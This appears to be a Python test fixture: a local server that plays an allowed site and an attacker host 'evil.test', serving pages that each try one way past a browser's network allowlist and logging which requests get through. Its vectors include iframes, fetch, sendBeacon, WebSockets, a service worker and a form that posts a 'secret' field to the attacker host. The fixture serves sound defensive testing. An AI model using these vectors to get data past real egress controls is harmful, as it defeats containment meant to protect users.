"""A local site on 127.0.0.1 that plays both the allowed site and the attacker, by Host header.

Every request that reaches it is logged with its Host, so a test sees what got through the browser's
network layer, whatever the page showed. The pages are the bypass vectors: each tries one way to reach
``evil.test`` from ``allowed.test`` and then sets ``document.title = "done"``.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlencode, urlsplit

DONE = "<script>addEventListener('load', () => setTimeout(() => document.title = 'done', 0))</script>"


def pages(evil: str) -> dict[str, str]:
    """Path -> HTML on the allowed site; ``evil`` is the attacker's origin (http://evil.test:PORT)."""
    ws = evil.replace("http://", "ws://")
    return {
        "/": "<title>allowed</title><h1>Allowed site</h1>",
        "/meta-refresh": f"<meta http-equiv=refresh content='0;url={evil}/meta-refresh'><title>wait</title>",
        "/js-location": f"<script>location = '{evil}/js-location'</script>",
        "/js-location-replace": f"<script>location.replace('{evil}/js-replace')</script>",
        "/iframe": f"<iframe src='{evil}/iframe'></iframe>{DONE}",
        "/iframe-data": (
            "<iframe src=\"data:text/html,<script>fetch('" + evil + "/from-data-iframe').catch(()=>0)"
            ".finally(()=>parent.postMessage('x','*'))</script>\"></iframe>"
            "<script>onmessage = () => document.title = 'done'</script>"
        ),
        "/subresources": (
            f"<img src='{evil}/img'><script src='{evil}/script.js'></script>"
            f"<link rel=stylesheet href='{evil}/style.css'><link rel=prefetch href='{evil}/prefetch'>"
            f"<script>navigator.sendBeacon('{evil}/beacon', 'x');"
            f"Promise.allSettled([fetch('{evil}/fetch'), fetch('{evil}/fetch-nocors', {{mode: 'no-cors'}}),"
            f" new Promise(r => {{ const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', '{evil}/xhr'); x.send(); }})])"
            ".then(() => document.title = 'done')</script>"
        ),
        "/websocket": (
            f"<script>const s = new WebSocket('{ws}/ws'); s.onerror = s.onclose = () => document.title = 'done';</script>"
        ),
        "/window-open": f"<button id=go onclick=\"window.open('{evil}/popup')\" style='width:400px;height:300px'>open</button>",
        "/blank-link": f"<a id=go href='{evil}/blank-link' target=_blank style='display:block;width:400px;height:300px'>x</a>",
        "/form-post": (
            f"<form id=f method=post action='{evil}/form-post'><input name=secret value=s3cr3t></form>"
            "<script>document.getElementById('f').submit()</script>"
        ),
        "/download": f"<a id=go href='{evil}/file.bin' download style='display:block;width:400px;height:300px'>dl</a>",
        "/sw": (
            "<script>navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)"
            ".then(() => fetch('/sw-probe')).then(() => document.title = 'done', () => document.title = 'done')"
            "</script>"
        ),
    }


SERVICE_WORKER = """
self.addEventListener('install', e => { self.skipWaiting(); e.waitUntil(fetch('EVIL/sw-install').catch(() => 0)); });
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
  if (new URL(e.request.url).pathname === '/sw-probe')
    e.respondWith(fetch('EVIL/sw-fetch').catch(() => new Response('blocked')));
});
"""


class AttackerSite:
    """``with AttackerSite() as site:`` serves on 127.0.0.1:``site.port``; ``site.log`` lists (host, method, path)."""

    def __init__(self) -> None:
        self.log: list[tuple[str, str, str]] = []
        self._lock = threading.Lock()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def _serve(self) -> None:
                host = (self.headers.get("Host") or "").lower()
                with site._lock:
                    site.log.append((host, self.command, self.path))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                path = urlsplit(self.path).path
                query = parse_qs(urlsplit(self.path).query)
                if path == "/redirect":
                    hops = int(query.get("hops", ["0"])[0])
                    code = int(query.get("code", ["302"])[0])
                    rest = urlencode({"to": query["to"][0], "code": code, "hops": hops - 1})
                    target = f"/redirect?{rest}" if hops > 0 else query["to"][0]
                    self.send_response(code)
                    self.send_header("Location", target)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if path == "/sw.js":
                    self._send(SERVICE_WORKER.replace("EVIL", site.evil).encode(), "text/javascript")
                    return
                if path == "/file.bin":
                    self.send_response(200)
                    self.send_header("Content-Disposition", 'attachment; filename="file.bin"')
                    self.send_header("Content-Length", "4")
                    self.end_headers()
                    self.wfile.write(b"evil")
                    return
                own = pages(site.evil) if not host.startswith("evil.test") else {}
                body = own.get(path, "<title>evil</title><h1>ATTACKER PAGE</h1>")
                self._send(body.encode(), "text/html; charset=utf-8")

            def _send(self, body: bytes, ctype: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = _serve

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.allowed = f"http://allowed.test:{self.port}"
        self.evil = f"http://evil.test:{self.port}"

    def __enter__(self) -> AttackerSite:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def take_log(self) -> list[tuple[str, str, str]]:
        with self._lock:
            log, self.log = self.log, []
        return log

    def bypasses(self, log: list[tuple[str, str, str]], allowed_hosts: set[str]) -> list[tuple[str, str, str]]:
        """Requests that reached the server under any host but the allowed ones."""
        return [entry for entry in log if entry[0] not in allowed_hosts]
